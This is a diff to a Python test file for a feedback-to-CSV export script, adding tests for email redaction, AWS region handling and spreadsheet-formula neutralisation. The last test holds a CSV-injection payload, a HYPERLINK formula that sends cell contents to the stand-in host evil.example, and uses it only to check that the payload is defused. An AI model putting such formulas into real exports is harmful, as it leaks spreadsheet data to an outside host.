@@ -13,7 +13,7 @@ from handlers.core.conversations.feedback_models import Feedback, FeedbackRating
 from handlers.core.conversations.models import Citation, Conversation, Message, Usage
 from handlers.core.conversations.table import ConversationTable
 from scripts.feedback_export import COLUMNS, main, negative_feedback, parse_since, write_csv
-from tests.support.aws import TABLE
+from tests.support.aws import REGION, TABLE
 from tests.support.events import USER_A, USER_B
 
 T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
@@ -92,6 +92,23 @@ def test_exports_only_negative_feedback_since_a_date_without_emails(
     assert USER_B not in text
 
 
+def test_addresses_without_a_dot_in_their_domain_are_redacted_too(
+    conversations: ConversationTable, table: Any
+) -> None:
+    # Given a 👎 comment naming addresses on hosts without a dotted domain
+    comment = "Ask ana@localhost, root@mail-server or bo.c+x@x.org."
+    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment=comment)
+
+    # When exported
+    out = io.StringIO()
+    write_csv(negative_feedback(table), out)
+
+    # Then every local@domain token is replaced, and the text around them kept
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["comment"] == "Ask [email], [email] or [email]."
+    assert "@" not in out.getvalue()
+
+
 def test_main_reads_the_named_table(
     conversations: ConversationTable, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -106,7 +123,53 @@ def test_main_reads_the_named_table(
     assert "1 answers rated" in captured.err
 
 
+def test_main_reads_the_stacks_region_not_the_callers_default(
+    conversations: ConversationTable,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # Given an operator whose default region is not the stack's
+    _message(conversations, USER_A, 1, FeedbackRating.DOWN, comment="No.")
+    for name in ("AWS_DEFAULT_REGION", "AWS_REGION"):
+        monkeypatch.setenv(name, "ap-southeast-2")
+
+    # When the export is given the stack's region (`make feedback` passes its output)
+    assert main(["--table", TABLE, "--region", REGION]) == 0
+
+    # Then it reads the stack's table there
+    assert "1 answers rated" in capsys.readouterr().err
+
+
 def test_a_bad_since_is_refused_with_a_reason(capsys: pytest.CaptureFixture[str]) -> None:
     with pytest.raises(SystemExit):
         main(["--table", TABLE, "--since", "last week"])
     assert "not an ISO date" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
+    # Given a 👎 answer whose user-written text (question, comment, a file name) starts
+    # with a character a spreadsheet reads as the start of a formula
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    message = Message(
+        message_id="01J00000000000000000000011",
+        question=formula,
+        answer=formula,
+        citations=[
+            Citation(document_id="d", document_name=formula, page=1, excerpt="e", score=0.5)
+        ],
+        usage=Usage(),
+        model="offline",
+        created_at=T0,
+        feedback=Feedback(rating=FeedbackRating.DOWN, comment=formula, updated_at=T0),
+    )
+
+    # When exported
+    out = io.StringIO()
+    write_csv([message], out)
+
+    # Then no cell starts with it: each is prefixed with an apostrophe, the text kept
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    for column in ("question", "answer", "citations", "comment"):
+        assert row[column].startswith("'"), (column, row[column])
+        assert row[column][1:].startswith(start)
